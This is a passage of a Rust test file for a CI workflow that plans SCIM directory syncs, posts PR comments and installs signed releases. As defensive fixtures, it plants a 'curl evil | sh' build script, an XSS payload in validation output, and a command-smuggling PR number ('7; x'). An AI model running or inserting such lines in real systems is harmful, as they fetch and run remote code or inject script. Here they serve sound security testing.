        ("success", "0", "", false),
        ("success", "1", "", false),
        ("success", "", "", false),
        ("failure", "", "", false),
        ("failure", "0", "0", false),
        ("success", "0", "02", false),
    ];
    for (check, valid, exit, passes) in cases {
        let mut r = Runner::new(&[
            ("steps.check.outcome", check),
            ("steps.validate.outputs.exit", valid),
            ("steps.plan.outputs.exit", exit),
        ]);
        let run = r.run(verdict, &[]);
        let case = format!("check {check}, validate {valid:?}, plan {exit:?}");
        assert_eq!(run.code == 0, passes, "{case}: {}", run.log);
        let expected = if passes { "success" } else { "failure" };
        assert_eq!(run.outputs["verdict"], expected, "{case}");
        assert!(!run.outputs["summary"].is_empty(), "{case}");
        if !passes {
            assert!(run.log.contains("::error::"), "{case}: {}", run.log);
        }
    }
}

/// The arguments of the workflow's `scimsync plan` line, up to its redirection.
fn workflow_plan_args(workflow: &Value) -> Vec<String> {
    let (_, step) = secret_step(workflow);
    let line = step["run"]
        .as_str()
        .unwrap()
        .lines()
        .find(|l| l.contains("scimsync plan"))
        .expect("the plan command")
        .to_string();
    line.split_whitespace()
        .skip_while(|w| *w != "plan")
        .take_while(|w| *w != ">")
        .map(str::to_string)
        .collect()
}

#[test]
fn operator_workflow_updates_one_comment_and_bounds_it() {
    let w = workflow();
    let comment = &w["jobs"]["comment"];
    assert_eq!(comment["needs"].as_str(), Some("plan"));
    let condition = comment["if"].as_str().unwrap_or_default();
    assert!(
        condition.contains("always()"),
        "a comment after a failed plan too"
    );
    // It comments and sets the status; it holds no secret and runs no program.
    assert_eq!(
        comment["permissions"],
        serde_yaml::from_str::<Value>("{pull-requests: write, statuses: write}").unwrap()
    );
    assert!(!text_of(comment).to_lowercase().contains("secrets"));
    let steps = job_steps(&w, "comment");
    assert!(
        steps.iter().all(|s| s.get("run").is_none()),
        "the comment job runs a program"
    );
    let allowed = ["actions/download-artifact@", "actions/github-script@"];
    for step in &steps {
        assert!(
            allowed.iter().any(|a| uses(step).starts_with(a)),
            "{}",
            uses(step)
        );
    }
    let script_step = steps
        .iter()
        .find(|s| s["with"]["script"].is_string())
        .expect("a github-script step");
    let script = script_step["with"]["script"].as_str().unwrap();
    let marker_line = script
        .lines()
        .find(|l| l.contains("const marker"))
        .expect("a marker");
    assert!(
        marker_line.contains("<!--") && marker_line.contains("-->"),
        "hidden: {marker_line}"
    );
    assert!(script.contains("listComments") && script.contains("startsWith(marker)"));
    assert!(script.contains("updateComment"), "updated in place");
    assert_eq!(script.matches("createComment(").count(), 1);
    assert!(
        script.contains("${marker}\\n"),
        "the body starts with the marker"
    );
    // The status goes on the head GitHub names, never one the artifact names.
    assert!(script.contains("createCommitStatus"));
    assert_eq!(
        env_of(script_step)["HEAD_SHA"],
        format!("${{{{ {HEAD_EXPR} }}}}")
    );
    assert_eq!(env_of(script_step)["PR"], "${{ needs.plan.outputs.pr }}");
    // The report plus the marker and the footer stay under GitHub's 65,536 characters.
    let args = workflow_plan_args(&w);
    let at = |flag: &str| {
        args.iter()
            .position(|a| a == flag)
            .map(|i| args[i + 1].clone())
    };
    let max: usize = at("--max-bytes").expect("--max-bytes").parse().unwrap();
    assert!(max + 1_000 <= 65_536, "--max-bytes {max}");
    assert_eq!(at("--format").as_deref(), Some("markdown"));
    assert_eq!(at("--out").as_deref(), Some("plan.md"));
    assert_eq!(
        at("--json-out").as_deref(),
        Some("plan.json"),
        "the full plan is kept"
    );
    assert!(args.iter().any(|a| a == "--detailed-exitcode"), "{args:?}");
    // The full plan is uploaded; the binary cached by version and built only on a miss.
    let keep = job_steps(&w, "plan")
        .into_iter()
        .find(|s| uses(s).starts_with("actions/upload-artifact"))
        .expect("the plan is kept");
    assert!(text_of(&keep["with"]["path"]).contains("plan.json"));
    // The cache is saved right after the build, before the pull request's data arrives: never
    // by actions/cache's end-of-job step.
    let caches: Vec<&Value> = job_steps(&w, "plan")
        .into_iter()
        .filter(|s| uses(s).starts_with("actions/cache"))
        .collect();
    let kinds: Vec<&str> = caches.iter().map(|s| uses(s)).collect();
    assert_eq!(kinds, ["actions/cache/restore@v4", "actions/cache/save@v4"]);
    assert_eq!(caches[0]["id"].as_str(), Some("cache"));
    for cache in &caches {
        assert_eq!(cache["with"], caches[0]["with"], "one path and key");
        let key = cache["with"]["key"].as_str().unwrap();
        assert!(key.contains("SCIMSYNC_VERSION"), "{key}");
    }
    let install = run_step_containing(&w, "plan", "cosign verify-blob");
    let cosign = job_steps(&w, "plan")
        .into_iter()
        .find(|s| uses(s).starts_with("sigstore/cosign-installer@"))
        .expect("cosign is installed");
    for step in [cosign, install, caches[1]] {
        assert_eq!(
            step["if"].as_str(),
            Some("steps.cache.outputs.cache-hit != 'true'")
        );
    }
}

/// node, when installed (GitHub's runners have it; the comment script runs under it).
fn node() -> Option<PathBuf> {
    std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .map(|p| p.join("node"))
            .find(|p| p.is_file())
    })
}

/// Runs the comment job's script under node as actions/github-script does, GitHub's API
/// mocked by `api` (`pull`: what `pulls.get` answers; `comments`: the pull request's
/// comments): what it called, in order, and its warnings.
fn comment_script(r: &Runner, node: &Path, api: &serde_json::Value) -> serde_json::Value {
    const HARNESS: &str = r"
const fs = require('fs');
const [script, api] = process.argv.slice(2).map((f) => fs.readFileSync(f, 'utf8'));
const { pull, comments } = JSON.parse(api);
const calls = [];
const call = (name, data) => async (args) => { calls.push({ name, args }); return { data }; };
const github = {
  rest: {
    repos: { createCommitStatus: call('createCommitStatus', {}) },
    pulls: { get: call('pulls.get', pull) },
    issues: {
      listComments: 'listComments',
      updateComment: call('updateComment', {}),
      createComment: call('createComment', {}),
    },
  },
  paginate: async (what, args) => { calls.push({ name: what, args }); return comments; },
};
const context = { repo: { owner: 'acme', repo: 'people' }, serverUrl: 'https://github.com', runId: 99 };
const warnings = [];
const core = { warning: (m) => warnings.push(m) };
const AsyncFunction = (async () => {}).constructor;
new AsyncFunction('github', 'context', 'core', 'require', script)(github, context, core, require)
  .then(() => console.log(JSON.stringify({ calls, warnings })))
  .catch((e) => { console.error(e); process.exit(1); });
";
    let w = workflow();
    let step = job_steps(&w, "comment")
        .into_iter()
        .find(|s| s["with"]["script"].is_string())
        .expect("a github-script step");
    let files = r.dir.path();
    std::fs::write(files.join("harness.js"), HARNESS).unwrap();
    std::fs::write(
        files.join("script.js"),
        step["with"]["script"].as_str().unwrap(),
    )
    .unwrap();
    std::fs::write(files.join("api.json"), api.to_string()).unwrap();
    let mut c = std::process::Command::new(node);
    c.arg(files.join("harness.js"))
        .arg(files.join("script.js"))
        .arg(files.join("api.json"))
        .env_clear();
    for (k, v) in env_of(step) {
        c.env(k, r.expand(&v));
    }
    let out = c.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_str(&stdout(&out)).unwrap()
}

/// The names of the API calls the script made.
fn call_names(result: &serde_json::Value) -> Vec<String> {
    result["calls"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap().to_string())
        .collect()
}

/// The call named `name` (the first).
fn call<'a>(result: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    let calls = result["calls"].as_array().unwrap();
    &calls
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no {name}: {result}"))["args"]
}

/// A runner at the comment job, after a plan job that ended with `pr` and `verdict` and kept
/// `files` in its artifact.
fn comment_runner(pr: &str, verdict: &str, files: &[(&str, &str)]) -> Runner {
    let r = Runner::new(&[
        (HEAD_EXPR, HEAD),
        ("needs.plan.outputs.pr", pr),
        ("needs.plan.outputs.verdict", verdict),
        (
            "needs.plan.outputs.summary",
            "changes pending: see the comment",
        ),
    ]);
    let w = workflow();
    let step = job_steps(&w, "comment")
        .into_iter()
        .find(|s| s["with"]["script"].is_string())
        .expect("a github-script step");
    let dir = r.expand_path(&env_of(step)["REPORT_DIR"]);
    std::fs::create_dir_all(&dir).unwrap();
    for (name, text) in files {
        std::fs::write(dir.join(name), text).unwrap();
    }
    r
}

#[test]
fn operator_workflow_comment_script_updates_its_own_comment_on_the_checked_pull_request() {
    use serde_json::json;
    let Some(node) = node() else {
        eprintln!("node not installed: skipped");
        return;
    };
    let marker = "<!-- scimsync-plan -->";
    let ours = json!({"number": 7, "head": {"sha": HEAD, "repo": {"full_name": "acme/people"}}});
    let r = comment_runner("7", "success", &[("plan.md", "### Plan: 1 to create\n")]);
    // An earlier comment of ours is updated; a look-alike by a person or another bot is not.
    let comments = json!([
        {"id": 1, "user": {"login": "mallory", "type": "User"}, "body": format!("{marker}\nfake")},
        {"id": 2, "user": {"login": "other[bot]", "type": "Bot"}, "body": format!("{marker}\nfake")},
        {"id": 3, "user": {"login": "github-actions[bot]", "type": "Bot"}, "body": format!("{marker}\nold")},
    ]);
    let result = comment_script(&r, &node, &json!({"pull": ours, "comments": comments}));
    assert_eq!(
        call_names(&result),
        [
            "createCommitStatus",
            "pulls.get",
            "listComments",
            "updateComment"
        ]
    );
    let status = call(&result, "createCommitStatus");
    assert_eq!(status["sha"], HEAD);
    assert_eq!(status["state"], "success");
    assert_eq!(status["context"], "scimsync plan");
    assert_eq!(call(&result, "pulls.get")["pull_number"], 7);
    let update = call(&result, "updateComment");
    assert_eq!(update["comment_id"], 3);
    let body = update["body"].as_str().unwrap();
    assert!(
        body.starts_with(&format!("{marker}\n### Plan: 1 to create\n")),
        "{body}"
    );
    // The first time, one comment is created.
    let result = comment_script(&r, &node, &json!({"pull": ours, "comments": []}));
    assert_eq!(
        call_names(&result),
        [
            "createCommitStatus",
            "pulls.get",
            "listComments",
            "createComment"
        ]
    );
    assert_eq!(call(&result, "createComment")["issue_number"], 7);
    // A pull request that moved on since (or whose head is a fork's): the status only.
    let moved =
        json!({"number": 7, "head": {"sha": "f".repeat(40), "repo": {"full_name": "acme/people"}}});
    let fork = json!({"number": 7, "head": {"sha": HEAD, "repo": {"full_name": "mallory/people"}}});
    for pull in [moved, fork] {
        let result = comment_script(&r, &node, &json!({"pull": pull, "comments": []}));
        assert_eq!(
            call_names(&result),
            ["createCommitStatus", "pulls.get"],
            "{pull}"
        );
        assert_eq!(result["warnings"].as_array().unwrap().len(), 1);
    }
    // No checked pull request number: the status only.
    for pr in ["", "7; x", "07", "7 8"] {
        let r = comment_runner(pr, "failure", &[]);
        let result = comment_script(&r, &node, &json!({"pull": ours, "comments": []}));
        assert_eq!(call_names(&result), ["createCommitStatus"], "{pr:?}");
        assert_eq!(call(&result, "createCommitStatus")["state"], "failure");
    }
    // No plan: the validation's output, escaped, and a failed status.
    let refused = "scimsync.yaml:1:1: error: </pre><img src=x onerror=alert(1)>";
    let r = comment_runner("7", "failure", &[("validate.txt", refused)]);
    let result = comment_script(&r, &node, &json!({"pull": ours, "comments": []}));
    assert_eq!(call(&result, "createCommitStatus")["state"], "failure");
    let body = call(&result, "createComment")["body"].as_str().unwrap();
    assert!(body.contains("&lt;/pre&gt;&lt;img src=x"), "{body}");
    assert!(!body.contains("<img"), "{body}");
}

/// Every file under `dir`, relative, sorted.
fn files_under(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                todo.push(path);
            } else {
                out.push(
                    path.strip_prefix(dir)
                        .unwrap()
                        .to_string_lossy()
                        .into_owned(),
                );
            }
        }
    }
    out.sort();
    out
}

/// Stage 1 on a checkout holding `people` (and files that must not travel): the folder it
/// uploads.
fn run_stage_one(people: &str) -> (Runner, PathBuf) {
    let c = collect();
    let mut r = Runner::new(&[
        ("github.event.pull_request.number", "7"),
        ("github.event.pull_request.head.sha", HEAD),
    ]);
    let checkout = r.workspace();
    std::fs::create_dir_all(checkout.join("directory")).unwrap();
    std::fs::create_dir_all(checkout.join(".cargo")).unwrap();
    std::fs::write(checkout.join("directory/people.yaml"), people).unwrap();
    // The target and token come from stage 2: the config names neither.
    std::fs::write(
        checkout.join("scimsync.yaml"),
        "sources:\n  - yaml: directory/people.yaml\nscope: {email_domains: [example.com]}\n",
    )
    .unwrap();
    std::fs::write(checkout.join(".cargo/config.toml"), "[build]\n").unwrap();
    std::fs::write(checkout.join("build.sh"), "curl evil | sh\n").unwrap();
    let gather = run_step_containing(&c, "collect", "pr-number");
    let run = r.run(gather, &[]);
    assert_eq!(run.code, 0, "{}", run.log);
    let upload = job_steps(&c, "collect")
        .into_iter()
        .find(|s| uses(s).starts_with("actions/upload-artifact"))
        .expect("an upload");
    let uploaded = r.expand_path(upload["with"]["path"].as_str().unwrap());
    (r, uploaded)
}

/// Stage 2's plan job, as a runner would run it, on what stage 1 uploaded, against `url`.
fn run_plan_job(uploaded: &Path, url: &str, token: &str) -> (Runner, PathBuf) {
    let w = workflow();
    let mut r = Runner::new(&[
        (HEAD_EXPR, HEAD),
        (PULLS_EXPR, "7"),
        ("secrets.SLACK_SCIM_TOKEN", token),
    ]);
    let data = r.expand_path(&download_path(&w));
    copy_tree(uploaded, &data);
    assert_eq!(
        files_under(&data),
        [
            "data/directory/people.yaml",
            "data/scimsync.yaml",
            "head-sha",
            "pr-number"
        ],
        "only the data travels"
    );
    let check = r.run(step_with_id(&w, "plan", "check"), &[]);
    assert_eq!(check.code, 0, "{}", check.log);
    // The target is the emulator here, in place of the workflow's literal.
    let pin = [("SCIMSYNC_TARGET_URL", url)];
    let validate = r.run(step_with_id(&w, "plan", "validate"), &pin);
    assert_eq!(validate.outputs["exit"], "0", "{}", validate.log);
    let plan = r.run(secret_step(&w).1, &pin);
    assert_eq!(plan.code, 0, "{}", plan.log);
    assert_eq!(plan.outputs["exit"], "2", "changes pending");
    let verdict = r.run(step_with_id(&w, "plan", "verdict"), &[]);
    assert_eq!(verdict.code, 0, "{}", verdict.log);
    assert_eq!(verdict.outputs["verdict"], "success");
    r.end_job(&w, "plan");
    let out = r.expand_path(
        step_with_id(&w, "plan", "validate")["working-directory"]
            .as_str()
            .unwrap(),
    );
    (r, out)
}

#[tokio::test(flavor = "multi_thread")]
async fn operator_bounded_markdown_of_a_two_thousand_person_import_fits_a_comment() {
    let o = org_with(EmulatorConfig::default(), Store::new('W', 3)).await;
    let mut people = String::from("users:\n");
    for i in 0..2000 {
        people.push_str(&format!(
            "  - {{email: person{i:04}@example.com, given_name: Person, family_name: Number{i}, title: Engineer, groups: [everyone]}}\n"
        ));
    }
    let url = o.emu.base_url(Version::V2);
    let (_stage_one, uploaded) = run_stage_one(&people);
    let (stage_two, out) = run_plan_job(&uploaded, &url, o.emu.token());
    let md = std::fs::read_to_string(out.join("plan.md")).unwrap();
    let args = workflow_plan_args(&workflow());
    let max: usize = args[args.iter().position(|a| *a == "--max-bytes").unwrap() + 1]
        .parse()
        .unwrap();
    assert!(md.len() <= max, "{} bytes", md.len());
    assert!(md.contains("Plan: 2000 to create"), "{md}");
    assert!(md.contains("groups: 1 to create"), "{md}");
    assert!(md.contains("of 2,001 changes; not shown:"), "{md}");
    // The artifact holds every change.
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("plan.json")).unwrap()).unwrap();
    assert_eq!(json["ops"].as_array().unwrap().len(), 2001);
    assert_eq!(json["summary"]["create"], 2000);
    // The comment, marker and footer included, fits GitHub's 65,536 characters.
    if let Some(node) = node() {
        let ours = serde_json::json!({"head": {"sha": HEAD, "repo": {"full_name": "acme/people"}}});
        let api = serde_json::json!({"pull": ours, "comments": []});
        let result = comment_script(&stage_two, &node, &api);
        let body = call(&result, "createComment")["body"].as_str().unwrap();
        assert!(
            body.chars().count() <= 65_536,
            "{} characters",
            body.chars().count()
        );
        assert!(body.contains("Plan: 2000 to create"));
    }
    // Unbounded, the same plan would not fit a comment.
    let data = stage_two.expand_path(&format!("{}/data", download_path(&workflow())));
    let env = [
        ("SCIMSYNC_TARGET_URL", url.as_str()),
        ("SCIMSYNC_TOKEN_ENV", "SLACK_SCIM_TOKEN"),
        ("SLACK_SCIM_TOKEN", o.emu.token()),
    ];
    let unbounded = ["plan", "--config", "scimsync.yaml", "--format", "markdown"];
    let full = stdout(&run(&data, &unbounded, &env));
    assert!(full.len() > 65_536, "{} bytes", full.len());
    eprintln!(
        "2,000-person import as markdown: bounded {} bytes, unbounded {} bytes",
        md.len(),
        full.len()
    );
    // --max-bytes bounds markdown only.
    let text = ["plan", "--config", "scimsync.yaml", "--max-bytes", "60000"];
    assert_eq!(run(&data, &text, &env).status.code(), Some(64));
    assert_eq!(o.emu.stats().writes, 0, "plan writes nothing");
}

/// The values deploy/release.env sets (`NAME=value` lines).
fn release_env() -> std::collections::HashMap<String, String> {
    std::fs::read_to_string(repo().join("deploy/release.env"))
        .unwrap()
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

#[test]
fn operator_workflow_verifies_the_release_before_it_unpacks_it() {
    let w = workflow();
    let release = release_env();
    for name in ["SCIMSYNC_REPOSITORY", "SCIMSYNC_VERSION"] {
        assert_eq!(
            w["env"][name].as_str(),
            Some(release[name].as_str()),
            "{name} is deploy/release.env's"
        );
    }
    let install = run_step_containing(&w, "plan", "cosign verify-blob");
    let script = install["run"].as_str().unwrap();
    let at = |text: &str| {
        script
            .find(text)
            .unwrap_or_else(|| panic!("no {text:?} in the install step"))
    };
    // The checksum, then the signature, then (only then) the tarball is opened.
    let order = [
        at("sha256sum --check"),
        at("cosign verify-blob"),
        at("tar -xzf"),
        at("install -m 0755"),
    ];
    assert!(order.is_sorted(), "verify before unpacking: {order:?}");
    assert!(
        script.starts_with("set -euo pipefail\n"),
        "a failed check stops it"
    );
    // The signature must come from scimsync's release workflow, for this very tag.
    assert!(script.contains(
        "--certificate-identity \"https://github.com/${SCIMSYNC_REPOSITORY}/.github/workflows/release.yml@refs/tags/v${SCIMSYNC_VERSION}\""
    ));
    assert!(
        script.contains("--certificate-oidc-issuer https://token.actions.githubusercontent.com")
    );
    assert!(script.contains("curl -fsSL --proto '=https'"));
}

/// Stand-ins for curl (serves files from `served`) and cosign (exits `COSIGN_EXIT`).
fn download_stubs(dir: &Path, served: &Path) -> PathBuf {
    let bin = dir.join("stub-bin");
    std::fs::create_dir_all(&bin).unwrap();
    let curl = format!(
        "#!/bin/bash\nwhile [ $# -gt 1 ]; do case $1 in -o) out=$2; shift 2;; *) shift;; esac; done\n\
         cp \"{}/$(basename \"$1\")\" \"$out\"\n",
        served.display()
    );
    std::fs::write(bin.join("curl"), curl).unwrap();
    std::fs::write(
        bin.join("cosign"),
        "#!/bin/bash\necho \"cosign $*\" >> \"$HOME/cosign.log\"\nexit \"${COSIGN_EXIT:-0}\"\n",
    )
    .unwrap();
    for f in ["curl", "cosign"] {
        std::fs::set_permissions(
            bin.join(f),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
    }
    bin
}

/// A release as the release workflow publishes it, for the stand-in curl: the tarball (a
/// `scimsync` that prints "released"), its bundle and sha256sums.
fn fake_release(dir: &Path, name: &str, tamper: bool) -> PathBuf {
    let served = dir.join("served");
    let inner = dir.join("pack").join(name);
    std::fs::create_dir_all(&inner).unwrap();
    std::fs::create_dir_all(&served).unwrap();
    std::fs::write(inner.join("scimsync"), "#!/bin/sh\necho released\n").unwrap();
    let tarball = served.join(format!("{name}.tar.gz"));
    let ok = std::process::Command::new("tar")
        .arg("-czf")
        .arg(&tarball)
        .arg("-C")
        .arg(dir.join("pack"))
        .arg(name)
        .status()
        .unwrap();
    assert!(ok.success());
    let sum = std::process::Command::new("sha256sum")
        .arg(format!("{name}.tar.gz"))
        .current_dir(&served)
        .output()
        .unwrap();
    std::fs::write(served.join("sha256sums"), &sum.stdout).unwrap();
    std::fs::write(served.join(format!("{name}.tar.gz.sigstore.json")), "{}").unwrap();
    if tamper {
        let mut bytes = std::fs::read(&tarball).unwrap();
        bytes.extend_from_slice(b"tampered");
        std::fs::write(&tarball, bytes).unwrap();
    }
    served
}

#[test]
fn operator_workflow_installs_only_a_release_that_verifies() {
    let w = workflow();
    let release = release_env();
    let install = run_step_containing(&w, "plan", "cosign verify-blob");
    let version = &release["SCIMSYNC_VERSION"];
    let name = format!("scimsync-{version}-x86_64-unknown-linux-musl");
    for (case, tamper, cosign_exit) in [
        ("verified", false, "0"),
        ("a tarball that is not the one summed", true, "0"),
        ("a signature that does not verify", false, "1"),
    ] {
        let mut r = Runner::new(&[]);
        let bin = r.dir.path().join("home/.scimsync/bin/scimsync");
        std::fs::remove_file(&bin).unwrap();
        let served = fake_release(r.dir.path(), &name, tamper);
        let stubs = download_stubs(r.dir.path(), &served);
        let path = format!("{}:{}", stubs.display(), std::env::var("PATH").unwrap());
        let run = r.run(
            install,
            &[
                ("PATH", &path),
                ("COSIGN_EXIT", cosign_exit),
                ("SCIMSYNC_VERSION", version),
                ("SCIMSYNC_REPOSITORY", &release["SCIMSYNC_REPOSITORY"]),
            ],
        );
        let cosign_log =
            std::fs::read_to_string(r.dir.path().join("home/cosign.log")).unwrap_or_default();
        if case == "verified" {
            assert_eq!(run.code, 0, "{case}: {}", run.log);
            let out = std::process::Command::new(&bin).output().unwrap();
            assert_eq!(String::from_utf8_lossy(&out.stdout), "released\n");
            assert!(cosign_log.contains("verify-blob --bundle"), "{cosign_log}");
        } else {
            assert_ne!(run.code, 0, "{case}: {}", run.log);
            assert!(!bin.exists(), "{case}: the binary was installed");
        }
        if tamper {
            assert!(
                cosign_log.is_empty(),
                "the checksum fails first: {cosign_log}"
            );
        }
    }
}
